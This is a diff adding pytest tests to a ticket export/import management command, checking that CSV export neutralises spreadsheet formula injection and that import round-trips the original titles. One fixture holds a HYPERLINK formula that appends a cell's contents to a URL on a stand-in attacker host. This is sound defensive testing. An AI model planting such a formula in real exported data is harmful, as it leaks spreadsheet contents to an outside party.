@@ -1,5 +1,6 @@
 """`manage.py export_tickets`: writes what import_tickets reads, so that the two round-trip."""
 
+import csv
 import json
 
 import pytest
@@ -118,3 +119,45 @@ def test_export_refuses_an_output_of_unknown_format(people, tmp_path):
 
     assert not outcome.ok
     assert "cannot tell the format from the name; use --format csv or json" in outcome.failure
+
+
+FORMULA_TITLES = {
+    "F-1": ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "'=HYPERLINK"),
+    "F-2": ("+1 555 0100 calls back", "'+1 555"),
+    "F-3": ("-2 degrees in the cold room", "'-2 degrees"),
+    "F-4": ("@SUM(A1:A9)", "'@SUM"),
+    "F-5": ("'=already quoted", "''=already"),
+    "F-6": ("'tis the season", "'tis the season"),  # not a formula: left as it is
+    "F-7": ("Plain title", "Plain title"),
+}
+
+
+def test_csv_export_defuses_formulas_and_the_import_restores_every_title(people, tmp_path):
+    for ref, (title, _) in FORMULA_TITLES.items():
+        TicketFactory(external_ref=ref, title=title, team=TeamFactory(name=f"Team {ref}"))
+    before = snapshot()
+    exported = tmp_path / "tickets.csv"
+    assert run("export_tickets", "-o", exported).ok
+
+    with exported.open(encoding="utf-8", newline="") as source:
+        cells = {row["external_ref"]: row["title"] for row in csv.DictReader(source)}
+    for ref, (_, written) in FORMULA_TITLES.items():
+        assert cells[ref].startswith(written), ref
+    as_json = json.loads(run("export_tickets", "--format", "json").out)
+    assert {item["external_ref"]: item["title"] for item in as_json} == {
+        ref: title for ref, (title, _) in FORMULA_TITLES.items()
+    }
+
+    Ticket.objects.all().delete()
+    assert run("import_tickets", exported).ok
+    assert snapshot() == before
+
+
+def test_a_cell_quoted_by_hand_in_a_spreadsheet_imports_without_its_apostrophe(people, tmp_path):
+    row = {**ROWS[1], "external_ref": "T-9", "title": "'=SUM(A1:A2)", "description": "'hello"}
+    source = write_csv(tmp_path / "tickets.csv", list(TICKET_COLUMNS), [row])
+
+    assert run("import_tickets", source).ok
+
+    ticket = Ticket.objects.get(external_ref="T-9")
+    assert (ticket.title, ticket.description) == ("=SUM(A1:A2)", "'hello")
